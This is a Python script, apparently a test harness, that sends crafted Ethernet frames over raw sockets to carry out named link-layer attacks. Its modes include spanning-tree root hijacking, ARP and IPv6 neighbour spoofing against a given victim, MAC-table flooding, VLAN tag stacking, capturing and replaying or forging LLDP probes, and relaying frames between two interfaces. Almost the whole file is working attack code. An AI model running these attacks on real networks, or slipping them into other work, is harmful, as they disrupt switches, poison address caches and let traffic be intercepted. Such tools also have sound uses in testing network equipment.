# Sends frames from a host, as the attack's name says: frames.py ATTACK SECONDS [ARGUMENT...]. Prints the number of frames.
import os
import random
import socket
import struct
import sys
import time

attack, seconds, arguments = sys.argv[1], float(sys.argv[2]), sys.argv[3:]
BROADCAST = b"\xff" * 6
LLDP = b"\x88\xcc"


def opened(interface):
    """A socket for all frames of an interface."""
    it = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    it.bind((interface, 0))
    return it


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def random_mac():
    return b"\x02" + os.urandom(5)


def ipv4(source, destination, protocol=17):
    size = 20 + 8 + 10
    head = struct.pack("!BBHHHBBH", 0x45, 0, size, 1, 0, 64, protocol, 0) + source + destination
    total = sum(struct.unpack("!10H", head))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    head = head[:10] + struct.pack("!H", ~total & 0xFFFF) + head[12:]
    return head + struct.pack("!HHHH", 9, 9, 18, 0) + b"x" * 10


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return b"\x00\x01\x08\x00\x06\x04" + struct.pack("!H", operation) + sender_mac + sender_ip + target_mac + target_ip


def endless(make, pause=0.0):
    """Sends until the time is over; a frame that the system does not take is left out."""
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for _ in range(32):
            try:
                wire.send(make(count).ljust(60, b"\0"))
                count += 1
            except OSError:
                pass
            if pause:
                time.sleep(pause)
                break
    print(count, flush=True)


def relay(first, second):
    """Copies the frames between two interfaces, those of their own host excepted."""
    pair = [opened(first), opened(second)]
    for it in pair:
        it.setblocking(False)
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        is_idle = True
        for here, there in (pair, pair[::-1]):
            try:
                frame, address = here.recvfrom(2000)
            except BlockingIOError:
                continue
            is_idle = False
            if address[2] != socket.PACKET_OUTGOING:
                there.send(frame)
                count += 1
        if is_idle:
            time.sleep(0.0005)
    print(count, flush=True)


def captured():
    """The probes that arrive, until there are three or the time is over."""
    wire.settimeout(0.5)
    end, found = time.monotonic() + seconds, []
    while time.monotonic() < end and len(found) < 3:
        try:
            frame, address = wire.recvfrom(2000)
        except TimeoutError:
            continue
        if frame[12:14] == LLDP and address[2] != socket.PACKET_OUTGOING:
            found.append(frame)
    return found


def forged(probe):
    """A probe with the right form whose last bytes, ids or times are others."""
    probe = bytearray(probe)
    at = random.randrange(14, len(probe))
    probe[at] ^= random.randrange(1, 256)
    return bytes(probe)


if attack == "relay":
    relay(arguments[0], arguments[1])
    sys.exit()
wire = opened("eth0")
me = wire.getsockname()[4]
if attack == "capture":
    found = captured()
    with open(arguments[0], "wb") as file:
        for frame in found:
            file.write(struct.pack("!H", len(frame)) + frame)
    print(len(found), flush=True)
elif attack in ("replay", "forge"):
    data, probes = open(arguments[0], "rb").read(), []
    while data:
        size = struct.unpack("!H", data[:2])[0]
        probes.append(data[2 : 2 + size])
        data = data[2 + size :]
    choose = (lambda probe: probe) if attack == "replay" else forged
    endless(lambda count: choose(probes[count % len(probes)]), 0.005)
elif attack == "spanning-tree":
    root = b"\x00\x00" + me
    body = b"\x42\x42\x03" + b"\x00\x00\x00\x00\x01" + root + b"\0\0\0\0" + root + b"\x80\x01" + b"\0\0\x14\0\x02\0\x0f\0"
    endless(lambda count: mac("01:80:c2:00:00:00") + me + struct.pack("!H", len(body)) + body, 0.001)
elif attack == "reserved":
    kinds = [(1, b"\x88\x08\x00\x01\xff\xff"), (2, b"\x88\x09\x01\x01"), (3, b"\x88\x8e\x01\x01"), (0x21, b"\x88\xf5")]
    endless(lambda count: b"\x01\x80\xc2\0\0" + bytes([kinds[count % 4][0]]) + me + kinds[count % 4][1], 0.001)
elif attack == "mac":
    victim, peer = map(mac, arguments[:2])
    endless(lambda count: peer + victim + b"\x08\x00" + ipv4(os.urandom(4), os.urandom(4)), 0.002)
elif attack == "arp":
    ip, peer, peer_ip = socket.inet_aton(arguments[0]), mac(arguments[1]), socket.inet_aton(arguments[2])
    to = [BROADCAST, peer]
    endless(lambda count: to[count % 2] + me + b"\x08\x06" + arp(1 + count % 2, me, ip, to[count % 2], peer_ip), 0.02)
elif attack == "sources":
    bad = ["ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00", "01:00:5e:00:00:01", "0e:52:6f:73:65:01", "01:80:c2:00:00:0e", "33:33:00:00:00:01"]
    endless(lambda count: BROADCAST + mac(bad[count % 6]) + b"\x08\x06" + arp(1, mac(bad[count % 6]), b"\x0a\0\0\x63", b"\0" * 6, b"\x0a\0\0\1"), 0.01)
elif attack == "hosts":
    endless(lambda count: BROADCAST + random_mac() + b"\x08\x00" + ipv4(os.urandom(4), b"\xff" * 4))
elif attack == "flows":
    endless(lambda count: random_mac() + me + b"\x08\x00" + ipv4(socket.inet_aton(arguments[0]), os.urandom(4)))
elif attack == "addresses":
    endless(lambda count: BROADCAST + me + b"\x08\x06" + arp(1, me, os.urandom(4), b"\0" * 6, os.urandom(4)), 0.001)
elif attack == "vlans":
    tag = lambda: b"\x81\x00" + struct.pack("!H", random.randrange(4096))
    endless(lambda count: BROADCAST + me + tag() * random.randrange(1, 5) + b"\x08\x00" + ipv4(b"\x0a\0\0\x63", b"\xff" * 4), 0.001)
elif attack == "noise":
    kinds = [b"\x08\x00", b"\x08\x06", b"\x86\xdd", b"\x81\x00", b"\x88\xa8", b"\x88\xcc", b"\x00\x30", b"\x88\x47"]
    endless(lambda count: random.choice([BROADCAST, me]) + me + random.choice(kinds) + os.urandom(random.randrange(1, 1480)), 0.001)
elif attack == "neighbours":
    victim = bytes.fromhex(arguments[0])
    body = b"\x88\0\0\0\xa0\0\0\0" + victim + b"\x02\x01" + me
    head = b"\x60\0\0\0" + struct.pack("!H", len(body)) + b"\x3a\xff" + victim + bytes.fromhex("ff020000000000000000000000000001")
    total = sum(struct.unpack(f"!{len(body) // 2}H", body)) + sum(struct.unpack("!16H", head[8:40])) + len(body) + 58
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    endless(lambda count: mac("33:33:00:00:00:01") + me + b"\x86\xdd" + head + body, 0.01)
